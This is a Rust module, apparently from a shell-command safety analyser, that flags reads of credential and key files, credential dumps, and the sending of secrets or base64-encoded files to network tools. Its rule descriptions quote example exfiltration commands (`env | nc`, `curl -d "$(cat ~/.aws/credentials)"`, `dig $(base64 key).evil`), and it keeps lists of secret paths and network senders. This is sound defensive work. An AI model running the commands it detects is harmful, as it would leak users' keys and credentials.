//! Secrets: reading credential and key files (matched by path component after normalisation,
//! never by substring), printing stored credentials, and sending any of them, the environment or
//! an encoded file to the network (arguments, stdin, pipes, substitutions, `/dev/tcp`).

use super::clobber::{
    is_remote, operands_skipping, option_values, path_value, push_once, text_path, Neighbours,
};
use super::{Family, Severity, Signal, Spec};
use crate::ir::{Analysis, Command, Stdin, Word};

/// The family of every entry declared below.
const FAMILY: Family = Family::Secrets;

spec!(
    SECRET_FILE_READ,
    "SECRET_FILE_READ",
    High,
    "reads a credential or private key file",
    "A reader (`cat`, `less`, `head`, `grep`, `cp`, `tar`, `zip`, `base64`, `xxd`, `scp`, `rsync`, `dd if=`, `openssl -in`…) or a `< file` redirection reads a secret: SSH private keys (`id_rsa`, `id_ed25519`… anywhere, `~/.ssh/id_*` except `*.pub`, the `.ssh` directory as a whole, host keys), `/etc/shadow`, `/etc/gshadow`, `/etc/sudoers(.d)`, `~/.aws/credentials`, `~/.config/gcloud`, `~/.kube/config`, `~/.docker/config.json`, `~/.gnupg`, `~/.netrc`, `~/.git-credentials`, `~/.pgpass`, `~/.vault-token`, `.env` files (not `.env.example`/`.sample`/`.template`), `/proc/*/environ`, `/run/secrets`. Paths are compared by component after normalisation, so `/tmp/id_rsa.pub.txt` and `ls ~/.ssh` are not reads of a key."
);
spec!(
    CREDENTIAL_DUMP,
    "CREDENTIAL_DUMP",
    High,
    "prints stored credentials",
    "A command whose purpose is to print secrets: `gpg --export-secret-keys`, `kubectl config view --raw`, `aws configure export-credentials` or `aws configure get …secret…`, `gcloud auth print-access-token`/`print-identity-token`."
);
spec!(
    SECRET_EXFILTRATION,
    "SECRET_EXFILTRATION",
    Critical,
    "sends a secret or the environment over the network",
    "A secret (see SECRET_FILE_READ and CREDENTIAL_DUMP) or an environment dump (`env`, `printenv`, `set`, `export -p`) reaches a network sender: `curl -d @key`, `-F f=@key`, `-T key`, `wget --post-file`, `scp|rsync key host:`, `aws s3 cp key s3://…`, `nc host port < key`, a pipe (`cat key | base64 | curl -d @- …`, `env | nc …`), a substitution in a sender's argument (`curl -d \"$(cat ~/.aws/credentials)\"`, `dig $(base64 key).evil`), a process substitution (`curl -d @<(env)`), or a redirection to `/dev/tcp`."
);
spec!(
    ENCODED_FILE_UPLOAD,
    "ENCODED_FILE_UPLOAD",
    Critical,
    "encoded file contents piped to a network sender",
    "`base64`/`base32`/`basenc`/`xxd`/`uuencode` of a file piped into `curl`, `wget`, `nc`, `socat`, `telnet`, `openssl`, `dig`, `nslookup` or `mail`: encoding a file on its way out is the signature of exfiltration, whatever the file is. `tar … | ssh host …` is not flagged."
);

pub static SPECS: &[&Spec] = &[
    &SECRET_FILE_READ,
    &CREDENTIAL_DUMP,
    &SECRET_EXFILTRATION,
    &ENCODED_FILE_UPLOAD,
];

/// Commands that send data to another machine.
pub const NETWORK_SENDERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "openssl",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "ftp",
    "tftp",
    "lftp",
    "mail",
    "mailx",
    "mutt",
    "sendmail",
    "http",
    "https",
    "xh",
    "aws",
    "gsutil",
    "rclone",
    "dig",
    "nslookup",
    "host",
    "ping",
    "s3cmd",
    "az",
];

/// Senders an encoded file is typically piped into (transport tools like `ssh` excluded).
const RAW_SENDERS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "openssl",
    "dig",
    "nslookup",
    "mail",
    "mailx",
    "sendmail",
    "http",
    "https",
    "xh",
];

const ENCODERS: &[&str] = &[
    "base64", "base32", "basenc", "xxd", "uuencode", "od", "hexdump",
];

/// Well-known private key file names, secret wherever they are.
const KEY_NAMES: &[&str] = &[
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "id_ecdsa_sk",
    "id_ed25519_sk",
    "identity",
];

/// Files secret by their last component, wherever they are.
const SECRET_NAMES: &[&str] = &[
    ".netrc",
    ".git-credentials",
    ".pgpass",
    ".my.cnf",
    ".vault-token",
    ".pypirc",
    ".npmrc",
    "secring.gpg",
];

/// Directories whose whole content is secret (`~/.gnupg`, `~/.config/gcloud`).
const SECRET_DIRS: &[&[&str]] = &[&[".gnupg"], &[".config", "gcloud"], &[".azure"]];

/// Files secret by their last two components (`.aws/credentials`).
const SECRET_PAIRS: &[(&str, &str)] = &[
    (".aws", "credentials"),
    (".kube", "config"),
    (".docker", "config.json"),
    ("gh", "hosts.yml"),
];

/// Absolute secret files.
const SECRET_FILES: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/shadow-",
    "/etc/gshadow-",
    "/etc/sudoers",
    "/etc/security/opasswd",
    "/etc/master.passwd",
];

/// Absolute secret directories.
const SECRET_ROOTS: &[&str] = &[
    "/etc/sudoers.d",
    "/var/run/secrets",
    "/run/secrets",
    "/etc/ssl/private",
];

/// True when `path` (normalised) names a secret file or a directory holding secrets.
pub fn is_secret_path(path: &str) -> bool {
    if SECRET_FILES.contains(&path) || super::clobber::under_any(path, SECRET_ROOTS) {
        return true;
    }
    let parts: Vec<&str> = path.split('/').filter(|p| !p.is_empty()).collect();
    let Some((&last, parents)) = parts.split_last() else {
        return false;
    };
    let parent = parents.last().copied().unwrap_or_default();
    is_private_key(last, parent)
        || SECRET_NAMES.contains(&last)
        || is_env_file(last)
        || SECRET_PAIRS.iter().any(|&(d, f)| parent == d && last == f)
        || matches!(last, ".ssh" | ".aws" | ".kube")
        || parent == ".ssh" && last.contains('*')
        || parts
            .windows(3)
            .any(|w| w[0] == "proc" && w[2] == "environ")
            && last == "environ"
        || SECRET_DIRS.iter().any(|dir| contains_run(&parts, dir))
        || path.starts_with("/etc/ssh/ssh_host_") && path.ends_with("_key")
}

/// Names a glob in the last component is tried against: every file name the rules know.
const CANDIDATE_NAMES: &[&str] = &[
    "shadow",
    "gshadow",
    "sudoers",
    "credentials",
    "config",
    "config.json",
    "environ",
    ".env",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "identity",
    ".netrc",
    ".git-credentials",
    ".pgpass",
    ".my.cnf",
    ".vault-token",
    ".pypirc",
    ".npmrc",
    "secring.gpg",
];

/// True when a path whose last component is a glob (`/etc/shad*`, `~/.aws/cred?ntials`) can
/// match a secret file.
fn glob_may_match_secret(path: &str) -> bool {
    let Some((parent, last)) = path.rsplit_once('/') else {
        return CANDIDATE_NAMES
            .iter()
            .any(|n| glob_match(path, n) && is_secret_path(n));
    };
    last.contains(['*', '?', '['])
        && CANDIDATE_NAMES
            .iter()
            .any(|n| glob_match(last, n) && is_secret_path(&format!("{parent}/{n}")))
}

/// Shell pattern matching of one component: `*`, `?`, `[…]` (with `!`/`^` negation). Linear
/// backtracking over the last `*`, so no pattern can make it slow.
pub fn glob_match(pattern: &str, name: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let n: Vec<char> = name.chars().collect();
    let (mut pi, mut ni) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ni < n.len() {
        if p.get(pi) == Some(&'*') {
            star = Some((pi, ni));
            pi += 1;
        } else if let Some(width) = one_char_match(&p[pi.min(p.len())..], n[ni]) {
            pi += width;
            ni += 1;
        } else if let Some((sp, sn)) = star {
            pi = sp + 1;
            ni = sn + 1;
            star = Some((sp, sn + 1));
        } else {
            return false;
        }
    }
    p[pi.min(p.len())..].iter().all(|&c| c == '*')
}

/// When the pattern's head (`?`, `[…]` or a literal) matches `c`, the pattern chars it used.
fn one_char_match(p: &[char], c: char) -> Option<usize> {
    match p.first()? {
        '?' => Some(1),
        '[' => {
            let close = p.iter().skip(2).position(|&x| x == ']')? + 2;
            let set = &p[1..close];
            let (negated, set) = match set.first() {
                Some('!' | '^') => (true, &set[1..]),
                _ => (false, set),
            };
            (set.contains(&c) != negated).then_some(close + 1)
        }
        '*' => None,
        &x => (x == c).then_some(1),
    }
}

fn is_private_key(last: &str, parent: &str) -> bool {
    if last.ends_with(".pub") {
        return false;
    }
    KEY_NAMES.contains(&last) || parent == ".ssh" && last.starts_with("id_")
}

/// `.env`, `.env.local`, `.env.production`; not `.env.example`, `.env.sample`, `.env.template`.
fn is_env_file(last: &str) -> bool {
    match last.strip_prefix(".env") {
        Some("") => true,
        Some(rest) => rest.strip_prefix('.').is_some_and(|suffix| {
            !matches!(
                suffix,
                "example" | "sample" | "template" | "dist" | "defaults" | "schema"
            )
        }),
        None => false,
    }
}

fn contains_run(parts: &[&str], run: &[&str]) -> bool {
    parts.windows(run.len()).any(|w| w == run)
}

/// Readers and the short options of each that take a value.
const READERS: &[(&[&str], &str)] = &[
    (
        &[
            "cat", "tac", "nl", "less", "more", "most", "pg", "view", "strings", "bat", "batcat",
        ],
        "",
    ),
    (&["head", "tail"], "nc"),
    (&["xxd", "od", "hexdump", "hd"], "cglsoAjNtw"),
    (&["base64", "base32", "basenc", "uuencode"], "w"),
    (
        &[
            "gzip", "bzip2", "xz", "zstd", "lz4", "zip", "7z", "7za", "rar", "cpio",
        ],
        "SbntxiL",
    ),
    (&["tar"], "fCTXbgHKLNV"),
    (&["cp", "rsync", "install"], "tSmogTe"),
    (&["scp"], "cFiJloPS"),
    (
        &[
            "cut", "sort", "uniq", "paste", "column", "fold", "fmt", "diff", "cmp", "comm",
        ],
        "dfcbktoST",
    ),
    (
        &["grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack"],
        "efmABCdDgt",
    ),
    (&["awk", "gawk", "mawk", "nawk", "sed", "jq", "yq"], "efvFl"),
    (&["unshadow", "john", "hashcat", "mail", "mailx"], "sabc"),
];

/// Commands whose first operand is a pattern or program, not a file (unless `-e`/`-f` gave it).
const PATTERN_FIRST: &[&str] = &[
    "grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack", "awk", "gawk", "mawk", "nawk", "sed",
    "jq", "yq",
];

/// True when a word names a secret, or is a glob that may match one.
fn names_secret(word: &Word) -> bool {
    path_value(word).is_some_and(|p| is_secret_path(&p) || word.glob && glob_may_match_secret(&p))
}

/// The secret files `cmd` reads, as written.
pub fn secrets_read(cmd: &Command) -> Vec<String> {
    let mut found = Vec::new();
    if let Stdin::File(w) = &cmd.stdin {
        if names_secret(w) {
            found.push(w.shown.clone());
        }
    }
    for w in read_operands(cmd) {
        if names_secret(&w) {
            found.push(w.shown.clone());
        }
    }
    found
}

/// `find … -name id_rsa -exec cat {} \;`: a reader run on the files a `find` selects by a
/// secret name.
fn finds_secrets(a: &Analysis, cmd: &Command) -> Option<String> {
    if !cmd.context.extra_args || read_operands(cmd).is_empty() && !is_reader(cmd) {
        return None;
    }
    let find = cmd
        .context
        .wrapped_by
        .and_then(|j| a.commands.get(j))
        .filter(|c| c.is(&["find"]))?;
    option_values(find, &["-name", "-iname", "-path", "-wholename"])
        .iter()
        .filter_map(Word::value)
        .find(|pattern| {
            let last = pattern.rsplit('/').next().unwrap_or(pattern);
            CANDIDATE_NAMES
                .iter()
                .any(|n| glob_match(last, n) && is_secret_path(n))
        })
        .map(str::to_string)
}

fn is_reader(cmd: &Command) -> bool {
    cmd.base()
        .is_some_and(|b| READERS.iter().any(|(names, _)| names.contains(&b)))
}

/// The operands a reader reads (including `if=` for `dd` and `-in` for `openssl`).
fn read_operands(cmd: &Command) -> Vec<Word> {
    let Some(base) = cmd.base() else {
        return Vec::new();
    };
    match base {
        "dd" => cmd
            .arg_values()
            .filter_map(|v| v.strip_prefix("if="))
            .map(Word::literal)
            .collect(),
        "openssl" => option_values(cmd, &["-in", "-inkey", "-key", "-kfile"]),
        _ => {
            let Some((_, values)) = READERS.iter().find(|(names, _)| names.contains(&base)) else {
                return Vec::new();
            };
            let mut files: Vec<Word> = operands_skipping(cmd, values, &[])
                .into_iter()
                .cloned()
                .collect();
            let given = cmd.option_args().any(|o| {
                matches!(o, "-e" | "-f" | "--regexp" | "--file" | "--expression")
                    || o.starts_with("--regexp=")
                    || o.starts_with("--expression=")
            });
            if PATTERN_FIRST.contains(&base) && !given && !files.is_empty() {
                files.remove(0);
            }
            let copies = matches!(base, "cp" | "rsync" | "install" | "scp");
            if copies
                && files.len() >= 2
                && option_values(cmd, &["-t", "--target-directory"]).is_empty()
            {
                files.pop();
            }
            if base == "scp" || base == "rsync" {
                files.retain(|w| !w.value().is_some_and(is_remote));
            }
            files
        }
    }
}

/// Commands that print stored credentials.
fn dumps_credentials(cmd: &Command) -> bool {
    let subs: Vec<&str> = cmd.arg_values().filter(|v| !v.starts_with('-')).collect();
    match cmd.base() {
        Some("gpg" | "gpg2") => cmd.option_args().any(|o| o.starts_with("--export-secret-")),
        Some("kubectl" | "oc") => {
            subs.starts_with(&["config", "view"]) && cmd.has_any_arg(&["--raw", "--flatten"])
        }
        Some("aws") => {
            subs.starts_with(&["configure", "export-credentials"])
                || subs.starts_with(&["configure", "get"])
                    && subs
                        .iter()
                        .any(|s| s.contains("secret") || s.contains("token"))
        }
        Some("gcloud") => subs.iter().any(|s| {
            matches!(
                *s,
                "print-access-token" | "print-identity-token" | "print-refresh-token"
            )
        }),
        _ => false,
    }
}

/// `env`/`printenv`/`set`/`export -p`/`declare -p` that print the environment.
fn dumps_environment(n: &Neighbours, i: usize, cmd: &Command) -> bool {
    match cmd.base() {
        // `env CMD` runs CMD; only a bare `env` prints the environment.
        Some("env" | "printenv") => n.wrapped(i).is_empty(),
        Some("set") => cmd.args.is_empty(),
        Some("export" | "declare" | "typeset") => {
            !cmd.args.is_empty() && cmd.args.iter().all(|w| w.value() == Some("-p"))
        }
        _ => false,
    }
}

/// True when command `j` produces secret output: it reads a secret, prints credentials or
/// dumps the environment.
fn emits_secret(a: &Analysis, n: &Neighbours, j: usize) -> bool {
    a.commands.get(j).is_some_and(|c| {
        !secrets_read(c).is_empty() || dumps_credentials(c) || dumps_environment(n, j, c)
    })
}

pub fn detect(a: &Analysis, out: &mut Vec<Signal>) {
    let n = Neighbours::of(a);
    for (i, cmd) in a.commands.iter().enumerate() {
        for shown in secrets_read(cmd).into_iter().chain(finds_secrets(a, cmd)) {
            push_once(out, &SECRET_FILE_READ, i, cmd, shown);
        }
        if dumps_credentials(cmd) {
            push_once(out, &CREDENTIAL_DUMP, i, cmd, cmd.text());
        }
        if emits_secret(a, &n, i) && redirects_to_socket(cmd) {
            push_once(out, &SECRET_EXFILTRATION, i, cmd, cmd.text());
        }
        if cmd.is(NETWORK_SENDERS) {
            sender(a, &n, i, cmd, out);
        }
    }
}

fn redirects_to_socket(cmd: &Command) -> bool {
    cmd.redirects.iter().any(|r| {
        r.writes()
            && r.target
                .value()
                .map(super::paths::normalize)
                .is_some_and(|t| t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/"))
    })
}

/// A network sender: what it is given to send.
fn sender(a: &Analysis, n: &Neighbours, i: usize, cmd: &Command, out: &mut Vec<Signal>) {
    if let Some(evidence) = sent_secret(a, n, cmd) {
        push_once(out, &SECRET_EXFILTRATION, i, cmd, evidence);
    }
    let upstream = a.upstream(cmd);
    if let Some(&j) = upstream.iter().find(|&&j| emits_secret(a, n, j)) {
        let text = a.commands.get(j).map(Command::text).unwrap_or_default();
        push_once(out, &SECRET_EXFILTRATION, i, cmd, text);
    } else if cmd.is(RAW_SENDERS) {
        if let Some(enc) = upstream
            .iter()
            .filter_map(|&j| a.commands.get(j))
            .find(|c| encodes_file(c))
        {
            push_once(out, &ENCODED_FILE_UPLOAD, i, cmd, enc.text());
        }
    }
}

/// An encoder reading a file (an operand or `< file`), not stdin.
fn encodes_file(cmd: &Command) -> bool {
    cmd.is(ENCODERS)
        && (matches!(cmd.stdin, Stdin::File(_))
            || operands_skipping(cmd, "wcglsoAjNt", &[])
                .iter()
                .any(|w| w.value() != Some("-")))
}

/// The evidence when a sender's own arguments or stdin carry a secret.
fn sent_secret(a: &Analysis, n: &Neighbours, cmd: &Command) -> Option<String> {
    if let Stdin::File(w) = &cmd.stdin {
        if path_value(w).is_some_and(|p| is_secret_path(&p)) {
            return Some(w.shown.clone());
        }
    }
    if let Stdin::Process { id } = cmd.stdin {
        if let Some(text) = secret_in_process(a, n, id) {
            return Some(text);
        }
    }
    for w in &cmd.args {
        let from_substitution = w.substitutions.iter().any(|id| {
            a.command_substitutions
                .get(*id)
                .is_some_and(|cmds| cmds.iter().any(|&j| emits_secret(a, n, j)))
        });
        if from_substitution {
            return Some(w.shown.clone());
        }
        if let Some(text) = w
            .processes
            .iter()
            .find_map(|id| secret_in_process(a, n, *id))
        {
            return Some(text);
        }
    }
    uploaded_files(cmd)
        .into_iter()
        .find(|w| path_value(w).is_some_and(|p| is_secret_path(&p)))
        .map(|w| w.shown)
}

/// The file of a curl data argument: `@file`, `name@file`, `name=<file`, with `;type=…` cut;
/// `$HOME/…` read as `~/…`.
fn data_file(text: &str) -> Option<String> {
    let file = text
        .split_once('@')
        .map(|(_, f)| f)
        .or_else(|| text.split_once('<').map(|(_, f)| f))?;
    text_path(file.split(';').next().unwrap_or(file))
}

fn secret_in_process(a: &Analysis, n: &Neighbours, id: usize) -> Option<String> {
    let cmds = a.process_substitutions.get(id)?;
    cmds.commands
        .iter()
        .find(|&&j| emits_secret(a, n, j))
        .and_then(|&j| a.commands.get(j))
        .map(Command::text)
}

/// The local files a sender uploads: `curl -d @f`/`-F x=@f`/`-T f`, `wget --post-file`,
/// local operands of `scp`/`rsync`/`aws s3 cp` when another operand is remote, `mail -A f`.
fn uploaded_files(cmd: &Command) -> Vec<Word> {
    match cmd.base() {
        Some("curl") => {
            let data = option_values(
                cmd,
                &[
                    "-d",
                    "--data",
                    "--data-binary",
                    "--data-ascii",
                    "--data-urlencode",
                    "--json",
                    "-F",
                    "--form",
                ],
            );
            let mut files: Vec<Word> = data
                .iter()
                .filter(|w| w.substitutions.is_empty() && w.processes.is_empty())
                .filter_map(|w| data_file(w.value().unwrap_or(&w.shown)))
                .map(|f| Word::literal(&f))
                .collect();
            files.extend(option_values(cmd, &["-T", "--upload-file"]));
            files
        }
        Some("wget" | "wget2") => option_values(cmd, &["--post-file", "--body-file"]),
        Some("mail" | "mailx" | "mutt") => option_values(cmd, &["-A", "-a", "--attach"]),
        Some("scp" | "rsync" | "sftp" | "aws" | "gsutil" | "rclone" | "s3cmd" | "az") => {
            let operands = operands_skipping(cmd, "cFiJloPSe", &["rsh", "profile", "region"]);
            let remote = operands.iter().any(|w| {
                w.value().is_some_and(|v| {
                    is_remote(v) || v.starts_with("s3://") || v.starts_with("gs://")
                })
            });
            if remote {
                operands
                    .into_iter()
                    .filter(|w| !w.value().is_some_and(is_remote))
                    .cloned()
                    .collect()
            } else {
                Vec::new()
            }
        }
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn glob_table() {
        let yes = [
            ("shad*", "shadow"),
            ("*", ".env"),
            ("cred?ntials", "credentials"),
            ("[st]hadow", "shadow"),
            ("*.env", ".env"),
            ("id_*", "id_rsa"),
        ];
        let no = [
            ("pass*", "shadow"),
            ("[!s]hadow", "shadow"),
            ("*.rs", ".env"),
            ("shadow?", "shadow"),
        ];
        for (p, n) in yes {
            assert!(glob_match(p, n), "{p} {n}");
        }
        for (p, n) in no {
            assert!(!glob_match(p, n), "{p} {n}");
        }
        let many_stars = format!("{}x", "*".repeat(200));
        assert!(!glob_match(&many_stars, "secring.gpg"));
    }

    #[test]
    fn secret_paths_by_component() {
        for p in [
            "/etc/shadow",
            "~/.ssh/id_rsa",
            "/root/.ssh/id_ed25519",
            "~/.aws/credentials",
            "/proc/1/environ",
            ".env.local",
            "/home/u/.gnupg/pubring.kbx",
        ] {
            assert!(is_secret_path(p), "{p}");
        }
        for p in [
            "/tmp/id_rsa.pub.txt",
            "~/.ssh/id_rsa.pub",
            "~/.ssh/known_hosts",
            ".env.example",
            "/etc/passwd",
            "/tmp/shadow.txt",
        ] {
            assert!(!is_secret_path(p), "{p}");
        }
    }
}
